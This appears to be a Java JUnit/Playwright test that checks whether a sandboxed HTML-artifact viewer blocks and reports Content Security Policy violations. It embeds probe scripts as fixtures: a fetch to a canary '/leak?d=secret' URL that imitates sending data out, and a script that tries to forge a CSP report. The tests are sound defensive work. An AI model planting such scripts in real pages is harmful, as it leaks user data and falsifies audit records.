package dev.vitrine.browser;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * A violation Chromium reports for an artifact's frame lands in that artifact's audit trail,
 * attributed to the version shown, through the real report endpoint and the audit API; the
 * artifact itself cannot post a report of its own making.
 */
class ViolationReportTest {
    @RegisterExtension
    static final BrowserSession session = new BrowserSession();

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @Test
    void aBlockedFetchOfAnArtifactShowsInItsAuditTrail() throws Exception {
        String leak = session.canary().url() + "/leak?d=secret";
        String id = session.client().create("html", "reporting probe", "<p>probe</p><script>"
                + "fetch('" + leak + "').catch(e => console.log('probe:ran ' + e.name));</script>").get("id").asText();
        session.client().addVersion(id, "<p>probe v2</p><script>"
                + "fetch('" + leak + "').catch(e => console.log('probe:ran ' + e.name));</script>");
        Page page = session.newPage();

        page.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(m -> m.text().startsWith("probe:ran")),
                () -> page.navigate(session.chatUrl(id)));

        JsonNode violation = awaitViolation(id, Duration.ofSeconds(10))
                .orElseThrow(() -> new AssertionError("no violation reached the audit trail of " + id));
        assertEquals(2, violation.get("version").asInt(), violation.toString());
        assertEquals("connect-src", violation.at("/violation/directive").asText(), violation.toString());
        assertTrue(violation.at("/violation/blockedUrl").asText().startsWith(session.canary().url() + "/leak"),
                violation.toString());
        assertEquals(0, session.canary().hits().size(), "the fetch itself was blocked");
        page.context().close();
    }

    /**
     * The artifact's own code cannot post a forged report: it is blocked like any other request,
     * and that attempt is what gets reported.
     */
    @Test
    void anArtifactCannotPostAForgedReportItself() throws Exception {
        String forge = """
                <p>forger</p><script>
                  const forged = JSON.stringify({'csp-report': {'document-uri': location.href,
                      'effective-directive': 'forged-src', 'blocked-uri': 'http://forged.test/'}});
                  const sent = [];
                  try { sent.push('beacon:' + navigator.sendBeacon('/_vitrine/csp-report', forged)); } catch (e) { sent.push('beacon:' + e.name); }
                  fetch('/_vitrine/csp-report', {method: 'POST', headers: {'Content-Type': 'application/csp-report'}, body: forged})
                    .then(() => console.log('probe:ran fetch-ok ' + sent), e => console.log('probe:ran ' + e.name + ' ' + sent));
                </script>""";
        String id = session.client().create("html", "forger", forge).get("id").asText();
        Page page = session.newPage();

        page.waitForConsoleMessage(new Page.WaitForConsoleMessageOptions().setPredicate(m -> m.text().startsWith("probe:ran")),
                () -> page.navigate(session.chatUrl(id)));

        JsonNode violation = awaitViolation(id, Duration.ofSeconds(10))
                .orElseThrow(() -> new AssertionError("the blocked attempt was not reported"));
        assertEquals("connect-src", violation.at("/violation/directive").asText(), violation.toString());
        assertTrue(violation.at("/violation/blockedUrl").asText().endsWith("/_vitrine/csp-report"), violation.toString());
        Thread.sleep(1_000); // room for a forged report that got through to arrive
        assertTrue(violations(id).stream().noneMatch(v -> v.at("/violation/directive").asText().equals("forged-src")),
                violations(id).toString());
        page.context().close();
    }

    private static Optional<JsonNode> awaitViolation(String id, Duration timeout) throws IOException, InterruptedException {
        Instant deadline = Instant.now().plus(timeout);
        while (Instant.now().isBefore(deadline)) {
            List<JsonNode> found = violations(id);
            if (!found.isEmpty()) {
                return Optional.of(found.get(0));
            }
            Thread.sleep(200);
        }
        return Optional.empty();
    }

    private static List<JsonNode> violations(String id) throws IOException, InterruptedException {
        HttpResponse<String> trail = HTTP.send(HttpRequest.newBuilder(
                        session.server().appOrigin().resolve("/v1/artifacts/" + id + "/audit"))
                .header("Authorization", "Bearer " + session.server().apiKey()).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(200, trail.statusCode(), trail.body());
        List<JsonNode> found = new ArrayList<>();
        for (JsonNode event : JSON.readTree(trail.body()).get("events")) {
            if (event.get("type").asText().equals("violation")) {
                found.add(event);
            }
        }
        return found;
    }
}
